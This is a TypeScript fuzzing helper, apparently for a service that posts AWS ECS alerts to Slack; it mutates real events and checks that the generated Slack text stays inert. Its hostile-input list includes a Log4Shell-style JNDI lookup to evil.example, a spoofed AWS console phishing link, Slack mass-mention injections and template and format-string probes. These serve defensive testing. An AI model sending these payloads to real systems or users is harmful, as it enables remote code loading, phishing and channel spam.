/**
 * Mutated real events for fuzzing the handlers: every fixture and demo event, with a few edits each —
 * a value replaced (wrong type, NaN-ish text, hostile text, ≥ 256 KB text, ≥ 1000 levels of nesting),
 * a field deleted, or a prototype-pollution key added as an own property (as JSON.parse makes it).
 */
import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { isConsoleUrl } from '../../../shared/domain/alerts/links.js';
import { demoEvents } from '../../helpers/pipeline.js';

const FIXTURES = new URL('../../fixtures/events/', import.meta.url);

/** Every fixture event and every demo event, parsed. */
export function realEvents(): unknown[] {
  const files = readdirSync(FIXTURES).filter((name) => name.endsWith('.json'));
  return [...files.map((name) => JSON.parse(readFileSync(new URL(name, FIXTURES), 'utf8'))), ...demoEvents()];
}

/** Text Slack or a shell would act on, and text that breaks naive code. */
export const HOSTILE_TEXT = [
  '<!channel>',
  '<!here|here> <!everyone>',
  '<https://evil.example/login|Open the AWS console>',
  '<@U024BE7LH> <#C024BE7LR>',
  '&lt;already escaped&gt; &amp; a & b < c > d',
  'nul\u0000 bell\u0007 esc\u001b[31mred\u001b[0m del\u007f',
  'lone \ud800 high and \udc00 low surrogate',
  '\u202eevil.exe\u202c right-to-left override',
  '```\ncode fence\n``` and `tick`',
  '*bold* _italic_ ~strike~ > quote',
  'line one\r\nline two\n\n\ttabbed',
  'https://hooks.slack.com/services/T000/B000/XXXXSECRET',
  '$' + '{jndi:ldap://evil.example/a} {{7*7}} %s%n',
  '-----BEGIN ECS-LOOKOUT ALERT JSON-----',
];

const NAN_ISH = [
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '0x1F',
  '',
  ' ',
  '007',
  '1.5',
  '-1',
  '9007199254740993',
];
const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype'];

/** `depth` levels of nested objects or arrays. */
function nested(depth: number, arrays: boolean): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = arrays ? [value] : { deeper: value };
  return value;
}

const hostile = fc.constantFrom(...HOSTILE_TEXT);
/** A string of at least 256 KB (some of it hostile). */
const huge = fc
  .tuple(fc.constantFrom('A', '<!channel> ', 'é\u0000', '\ud800'), fc.integer({ min: 0, max: 1024 }))
  .map(([unit, extra]) => unit.repeat(Math.ceil((262_144 + extra) / unit.length)));
const deep = fc
  .tuple(fc.integer({ min: 1_000, max: 3_000 }), fc.boolean())
  .map(([depth, arrays]) => nested(depth, arrays));

/** A replacement value: wrong type, NaN-ish text, hostile text, huge text, deep nesting or anything. */
export const replacement: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.constant([])), weight: 3 },
  { arbitrary: fc.constantFrom(...NAN_ISH), weight: 2 },
  { arbitrary: hostile, weight: 4 },
  { arbitrary: huge, weight: 1 },
  { arbitrary: deep, weight: 1 },
  { arbitrary: fc.anything({ maxDepth: 2 }), weight: 2 },
);

type Path = Array<string | number>;

/** Paths to every value of `root` (objects and arrays included), up to a depth. */
function paths(root: unknown, depth = 6, prefix: Path = []): Path[] {
  if (depth === 0 || root === null || typeof root !== 'object') return [];
  const keys = Array.isArray(root) ? root.map((_, i) => i) : Object.keys(root);
  return keys.flatMap((key) => {
    const path = [...prefix, key];
    return [path, ...paths((root as Record<string | number, unknown>)[key], depth - 1, path)];
  });
}

function parentOf(root: unknown, path: Path): Record<string | number, unknown> | undefined {
  let node = root as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  return node !== null && typeof node === 'object' ? node : undefined;
}

/** One edit of an event; `at` picks the path (modulo the number of paths). */
export type Mutation =
  | { kind: 'set'; at: number; value: unknown }
  | { kind: 'set-text'; at: number; value: string }
  | { kind: 'delete'; at: number }
  | { kind: 'pollute'; at: number; key: string };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('set' as const), at: fc.nat(), value: replacement }),
  fc.record({ kind: fc.constant('set-text' as const), at: fc.nat(), value: fc.oneof(hostile, huge) }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('pollute' as const), at: fc.nat(), key: fc.constantFrom(...POLLUTION_KEYS) }),
);

/** `event` with the mutations applied (a copy; the original is untouched). */
export function mutate(event: unknown, mutations: Mutation[]): unknown {
  let root: unknown = structuredClone(event);
  for (const m of mutations) {
    const all = paths(root);
    // `set-text` only replaces strings, so the event keeps its shape and usually stays valid.
    const candidates =
      m.kind === 'set-text' ? all.filter((p) => typeof parentOf(root, p)?.[p.at(-1)!] === 'string') : all;
    if (candidates.length === 0) {
      if (m.kind === 'set') root = m.value;
      continue;
    }
    const path = candidates[m.at % candidates.length]!;
    const parent = parentOf(root, path);
    const key = path.at(-1)!;
    if (!parent) continue;
    if (m.kind === 'delete') delete parent[key];
    else if (m.kind === 'pollute') {
      const target = parent[key];
      const node = target !== null && typeof target === 'object' ? target : parent;
      Object.defineProperty(node, m.key, {
        value: { polluted: true },
        enumerable: true,
        writable: true,
        configurable: true,
      });
    } else parent[key] = m.value;
  }
  return root;
}

/** Every string under a `text` key of a Slack payload (fallback text and every block text object). */
export function slackTexts(payload: unknown): string[] {
  if (Array.isArray(payload)) return payload.flatMap(slackTexts);
  if (payload === null || typeof payload !== 'object') return [];
  return Object.entries(payload).flatMap(([key, value]) =>
    key === 'text' && typeof value === 'string' ? [value] : slackTexts(value),
  );
}

const LINK = /<([^<>|]*)\|([^<>]*)>/g;

/**
 * Why a Slack text could act on its readers, or undefined when it is inert: the only `<…>` allowed are
 * links to the AWS console the renderer builds; `&` only starts `&amp;` `&lt;` `&gt;`; no control characters.
 */
export function slackHazard(text: string): string | undefined {
  let hazard: string | undefined;
  const withoutLinks = text.replace(LINK, (_, url: string, label: string) => {
    if (!isConsoleUrl(url)) hazard = `link to ${url.slice(0, 80)}`;
    return label;
  });
  if (hazard) return hazard;
  if (/[<>]/.test(withoutLinks)) return `unescaped < or > in ${JSON.stringify(withoutLinks.slice(0, 200))}`;
  if (/&(?!amp;|lt;|gt;)/.test(withoutLinks)) return 'unescaped &';
  if (/[\u0000-\u0008\u000b-\u001f\u007f]/.test(text)) return 'control character';
  return undefined;
}
